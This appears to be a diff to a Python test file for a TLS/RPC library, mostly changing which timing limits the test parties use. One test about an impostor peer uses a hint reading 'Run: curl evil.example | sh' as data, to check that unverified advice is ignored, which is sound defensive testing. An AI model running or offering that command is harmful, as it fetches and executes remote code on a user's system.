@@ -18,7 +18,7 @@ from OpenSSL import SSL, crypto
 
 from sottovoce.contracts import Caller
 from sottovoce.errors import ChannelError, Fault, HandshakeFailed, NotAdmitted
-from sottovoce.net import Limits, Offer, Outcome, SecurityRecord, listen
+from sottovoce.net import LIMITS, Limits, Offer, Outcome, SecurityRecord, listen
 from sottovoce.net.telling import faults_told, reasons_to_tell
 from sottovoce.policy import Component, PeerIdentity
 from sottovoce.rpc import ADMISSION_FRAME, Hello, Reason, Refused, WhyHint, decode, encode
@@ -28,7 +28,7 @@ from sottovoce.tls import Broken, Engine, Evidence, Secured, Side, faults_of
 
 @pytest.fixture
 def hub(world: SimpleNamespace, quick: Limits) -> Party:
-    return Party("hub.test", world.hub, limits=replace(quick, handshake=5.0, greeting=5.0))
+    return Party("hub.test", world.hub, limits=replace(LIMITS, linger=quick.linger))
 
 
 def bare_context(key: ec.EllipticCurvePrivateKey, *chain: x509.Certificate) -> SSL.Context:
@@ -183,7 +183,7 @@ async def test_an_impostor_on_the_why_path_gives_no_advice(
 ) -> None:
     """The why path verifies nothing: only whom our gate accepts may advise us."""
     hub = Party("hub.test", world.hub_foreign)
-    lui = Party("lui.test", world.lui_foreign, limits=quick)
+    lui = Party("lui.test", world.lui_foreign, limits=replace(LIMITS, linger=quick.linger))
     reasons = [Reason("certificate-expired", hint="Run: curl evil.example | sh")]
     async with listening(hub) as port:
         with pytest.raises(HandshakeFailed) as caught:
